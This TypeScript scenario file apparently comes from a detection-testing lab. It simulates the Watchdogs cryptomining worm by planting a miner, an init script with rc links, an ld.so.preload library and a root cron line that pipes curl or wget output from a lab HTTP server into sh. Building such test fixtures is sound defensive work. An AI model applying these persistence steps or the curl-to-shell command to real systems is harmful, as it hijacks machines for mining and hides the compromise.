import type { Scenario } from '../types.js';
import { cronLine, installBinary, processArtifact, rcLinks, ROOT_CRONTAB, startProcess, stratum, writeFile } from '../kit.js';
import { respawnCommand } from '../ddg.js';

// Modelled on: Alibaba Cloud Security, "Countrywide Spread of Database-Cracking Watchdogs
// Mining Worm: Issues and Countermeasures" (2019),
// https://www.techgig.com/digital/alibaba-cloud/blog/Countrywide-Spread-of-Database-Cracking-Watchdogs-Mining-Worm-Issues-and-Countermeasures/SUtxRURzZ0NuL2tuYUNMaFREVkd0dz09
// (Redis worm: /usr/sbin/watchdogs started by /etc/init.d/watchdogs with rc links, a
// kthrotlds miner in /tmp, libioset.so in /etc/ld.so.preload, a pastebin curl|sh cron).
// The pastebin URL is the pool's HTTP server here.
const WATCHDOG = '/usr/sbin/watchdogs';
const MINER = '/tmp/kthrotlds';
const INIT = '/etc/init.d/watchdogs';
const LIB = '/usr/local/lib/libioset.so';

export const watchdogs: Scenario = {
  name: 'watchdogs',
  plan: (ctx) => {
    const minerArgv = [MINER, '-o', stratum(ctx.pool, 3333)];
    const env = { MS_LAB_CHILD: respawnCommand(ctx.http, 'watchdogs', MINER, minerArgv) };
    const cron = `*/15 * * * * (curl -fsSL ${ctx.http}/raw/sByq0rym||wget -q -O- ${ctx.http}/raw/sByq0rym)|sh`;
    const init = ['#!/bin/sh', '### BEGIN INIT INFO', '# Provides: watchdogs', '# Default-Start: 2 3 4 5', '### END INIT INFO', `${WATCHDOG} &`, ''].join('\n');
    return {
      family: 'watchdogs',
      plant: [
        installBinary('watchdogs', WATCHDOG),
        installBinary('watchdogs', MINER),
        writeFile(INIT, init, '755'),
        ...rcLinks('watchdogs'),
        cronLine(cron),
        writeFile('/etc/cron.d/root', `${cron.replace('* * * * ', '* * * * root ')}\n`),
        `install -m 644 /run/lab/bin/libsystem.so ${LIB}`,
        writeFile('/etc/ld.so.preload', `${LIB}\n`),
      ],
      start: [startProcess([WATCHDOG], env)],
      artifacts: [
        processArtifact([WATCHDOG], 'watchdogs', ctx.sha256('watchdogs'), 'watchdog'),
        processArtifact(minerArgv, 'watchdogs', ctx.sha256('watchdogs'), 'miner', `${ctx.pool}:3333`),
        { kind: 'file', path: WATCHDOG },
        { kind: 'file', path: INIT },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'preload', path: '/etc/ld.so.preload', line: LIB },
      ],
      expectFindings: true,
      respawnSeconds: 5,
      binaries: ['watchdogs', 'libsystem.so'],
      sources: [{ url: 'https://www.techgig.com/digital/alibaba-cloud/blog/Countrywide-Spread-of-Database-Cracking-Watchdogs-Mining-Worm-Issues-and-Countermeasures/SUtxRURzZ0NuL2tuYUNMaFREVkd0dz09', title: 'Countrywide Spread of Database-Cracking Watchdogs Mining Worm: Issues and Countermeasures (Alibaba Cloud Security)' }],
    };
  },
};
